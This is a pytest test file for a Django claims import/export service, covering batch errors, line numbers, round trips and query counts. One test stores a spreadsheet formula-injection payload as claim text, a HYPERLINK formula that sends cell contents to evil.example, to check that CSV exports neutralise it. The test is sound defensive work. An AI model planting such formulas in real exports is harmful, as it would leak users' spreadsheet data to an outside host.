import csv
import datetime
import io
import json
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from rest_framework.test import APIClient

from claims.models import Claim
from claims.services.exports import CSV_COLUMNS
from claims.services.imports import import_claims
from tests.factories import (
    DocumentFactory,
    FigureClaimFactory,
    MetricFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def references():
    return {
        "document": DocumentFactory(),
        "speaker": PersonFactory(),
        "metric": MetricFactory(slug="iran-russia-trade"),
    }


def claim_row(references, n: int, **changes) -> dict:
    row = {
        "id": str(900 + n),
        "text": f"Trade reached 5.3 billion dollars, claim {n}.",
        "quote": f"trade reached 5.3 billion dollars {n}",
        "document_id": str(references["document"].pk),
        "document__title": "shown only",
        "document__publisher__name": "shown only",
        "speaker_id": str(references["speaker"].pk),
        "speaker__name": "shown only",
        "speaker_role": "Ambassador",
        "claimed_on": "2013-04-23",
        "claimed_precision": "day",
        "metric__slug": references["metric"].slug,
        "value": "5300000000.125",
        "value_upper": "",
        "unit": "USD",
        "comparator": "approximately",
        "period_start": "2012-03-20",
        "period_end": "2013-03-20",
        "period_label": "last year",
        "status": "unverified",
        "rationale": "",
        "created_at": "2020-01-01T00:00:00Z",
        "updated_at": "2020-01-01T00:00:00Z",
    }
    row.update(changes)
    return row


def write_csv(path, rows):
    with path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=CSV_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    return path


def run_import(path, *args):
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_claims", str(path), *args, stdout=out, stderr=err)
    except CommandError as error:
        return out.getvalue(), err.getvalue(), error
    return out.getvalue(), err.getvalue(), None


def test_csv_import_creates_claims_with_history_and_exact_figures(tmp_path, references):
    rows = [claim_row(references, n) for n in range(3)]
    rows[2]["comparator"] = "range"
    rows[2]["value_upper"] = "6000000000.5"
    path = write_csv(tmp_path / "claims.csv", rows)

    out, err, failure = run_import(path)

    assert failure is None, err
    assert "rows read: 3, created: 3, failed: 0" in out
    assert "conflict detection on 1 metrics" in out
    claims = list(Claim.objects.order_by("id"))
    assert [claim.text for claim in claims] == [row["text"] for row in rows]
    assert claims[0].value == Decimal("5300000000.125")
    assert claims[2].value_upper == Decimal("6000000000.5")
    assert claims[0].period_start == datetime.date(2012, 3, 20)
    assert claims[0].speaker == references["speaker"]
    assert claims[0].metric == references["metric"]
    assert claims[0].id != 900  # the file's ids are ignored
    for claim in claims:
        assert claim.version == 1
        assert list(claim.history.values_list("history_type", flat=True)) == ["+"]
        assert claim.history.get().history_change_reason == "Imported"


def test_jsonl_import_creates_claims(tmp_path, references):
    path = tmp_path / "claims.jsonl"
    rows = [claim_row(references, n) for n in range(2)]
    rows[1].update(value="12.5", unit="percent", speaker_id=None, metric__slug=None)
    path.write_text("\n".join(json.dumps(row) for row in rows) + "\n\n")

    out, err, failure = run_import(path, "--no-detect")

    assert failure is None, err
    assert "created: 2" in out
    second = Claim.objects.get(text=rows[1]["text"])
    assert second.value == Decimal("12.5")
    assert second.speaker is None
    assert second.metric is None
    assert Claim.history.count() == 2


@pytest.mark.parametrize(
    ("changes", "column"),
    [
        ({"unit": ""}, "unit"),
        ({"metric__slug": "no-such-metric"}, "metric__slug"),
        ({"document_id": "999999"}, "document_id"),
        ({"status": "verified", "rationale": "Checked."}, "status"),
        ({"value": "five"}, "value"),
        ({"period_end": "2011-01-01"}, "period_end"),
    ],
)
def test_bad_row_is_reported_by_line_and_its_batch_is_not_stored(
    tmp_path, references, changes, column
):
    rows = [claim_row(references, n) for n in range(6)]
    rows[3].update(changes)  # line 5: the header is line 1
    path = write_csv(tmp_path / "claims.csv", rows)

    out, err, failure = run_import(path, "--batch-size", "2", "--no-detect")

    assert failure is not None
    assert f"line 5: {column}:" in err
    assert "rows read: 6, created: 4, failed: 1" in out
    stored = set(Claim.objects.values_list("text", flat=True))
    assert stored == {rows[n]["text"] for n in (0, 1, 4, 5)}


def test_stop_on_error_leaves_later_batches_unread(tmp_path, references):
    rows = [claim_row(references, n) for n in range(6)]
    rows[2]["metric__slug"] = "missing"
    path = write_csv(tmp_path / "claims.csv", rows)

    out, _, failure = run_import(path, "--batch-size", "2", "--stop-on-error")

    assert failure is not None
    assert "rows read: 4, created: 2, failed: 1" in out
    assert "stopped" in out
    assert Claim.objects.count() == 2


def test_line_numbers_count_quoted_newlines(tmp_path, references):
    rows = [claim_row(references, n) for n in range(3)]
    rows[0]["text"] = "A claim\nwritten over\nthree lines."
    rows[1]["unit"] = ""
    path = write_csv(tmp_path / "claims.csv", rows)

    _, err, failure = run_import(path, "--batch-size", "1", "--no-detect")

    assert failure is not None
    assert "line 5: unit:" in err
    assert Claim.objects.count() == 2


def test_export_then_import_gives_the_same_claims(references):
    FigureClaimFactory.create_batch(
        3,
        document=references["document"],
        speaker=references["speaker"],
        metric=references["metric"],
        value=Decimal("5300000000.25"),
    )
    FigureClaimFactory(
        document=references["document"],
        metric=references["metric"],
        comparator="range",
        value=Decimal("1.5"),
        value_upper=Decimal("2.75"),
        status="in_review",
    )
    fields = [
        "text",
        "quote",
        "document_id",
        "speaker_id",
        "speaker_role",
        "claimed_on",
        "metric_id",
        "value",
        "value_upper",
        "unit",
        "comparator",
        "period_start",
        "period_end",
        "period_label",
        "status",
    ]
    before = sorted(Claim.objects.values_list(*fields))
    response = APIClient().get("/api/v1/claims/?format=csv")
    assert response.status_code == 200
    exported = b"".join(response.streaming_content).decode()
    Claim.objects.all().delete()

    report = import_claims(csv.DictReader(io.StringIO(exported)), batch_size=100)

    assert report.ok
    assert report.created == 4
    assert sorted(Claim.objects.values_list(*fields)) == before


def test_exported_formula_cells_import_as_the_texts_they_were(
    tmp_path, references, superuser
):
    metric = MetricFactory(slug="-trade")
    texts = {
        "text": '=HYPERLINK("http://evil.example/?x="&A1)',
        "quote": "'=1 and 'quoted'",
        "speaker_role": "-2+3",
        "unit": "@USD",
        "period_label": "+1",
        "editor_note": "''\t=1",
    }
    FigureClaimFactory(
        document=references["document"], metric=metric, status="in_review", **texts
    )
    fields = [*texts, "metric_id", "value", "status"]
    before = list(Claim.objects.values_list(*fields))
    # An editor's export: the public one leaves the working notes out.
    editor = APIClient()
    editor.force_login(superuser)
    response = editor.get("/api/v1/claims/?format=csv")
    path = tmp_path / "claims.csv"
    path.write_bytes(b"".join(response.streaming_content))
    Claim.objects.all().delete()

    _out, err, failure = run_import(path, "--no-detect")

    assert failure is None, err
    exported = path.read_text()
    assert "'=HYPERLINK" in exported
    assert "'-trade" in exported
    assert list(Claim.objects.values_list(*fields)) == before


@pytest.mark.parametrize("count", [10, 50])
def test_import_makes_a_constant_number_of_queries_per_batch(
    references, django_assert_max_num_queries, count
):
    rows = [claim_row(references, n) for n in range(count)]

    # Documents, people, metrics; savepoint and release; one insert of claims and
    # one of history rows; the claim.created events: the claims' public rows,
    # their conflicts and one insert of events; the webhook subscriptions the
    # events fan out to. SQLite splits inserts at its limit of 999 parameters (30
    # claims, 20 history rows), so 50 rows take two inserts of claims and three of
    # history rows there.
    most = 11 if connection.vendor == "postgresql" else 14
    with django_assert_max_num_queries(most):
        report = import_claims(rows, batch_size=count, detect=False)

    assert report.created == count


def test_quote_missing_from_the_document_text_is_refused(
    tmp_path, references, django_assert_max_num_queries
):
    document = DocumentFactory(text="Trade reached 5.3 billion dollars last year.")
    rows = [
        claim_row(references, 1, document_id=document.pk, quote="reached 5.3 billion"),
        claim_row(references, 2, document_id=document.pk, quote="reached 9 billion"),
    ]

    with django_assert_max_num_queries(3):
        report = import_claims(rows, batch_size=10, detect=False)

    assert report.created == 0
    assert report.not_stored == 1
    assert [(error.line, list(error.errors)) for error in report.errors] == [
        (2, ["quote"])
    ]


def test_before_commit_sees_the_stored_claims_and_a_failure_there_stores_none(
    references,
):
    rows = [claim_row(references, n) for n in (1, 2)]
    seen = []

    def record(report):
        seen.append((report.created, Claim.objects.count()))
        raise RuntimeError("the job's completion could not be recorded")

    with pytest.raises(RuntimeError):
        import_claims(rows, all_or_nothing=True, before_commit=record)

    assert seen == [(2, 2)]  # called once they were stored, in their transaction
    assert Claim.objects.count() == 0  # which rolled back with it


def test_before_commit_needs_all_or_nothing(references):
    with pytest.raises(ValueError, match="all_or_nothing"):
        import_claims([claim_row(references, 1)], before_commit=lambda report: None)
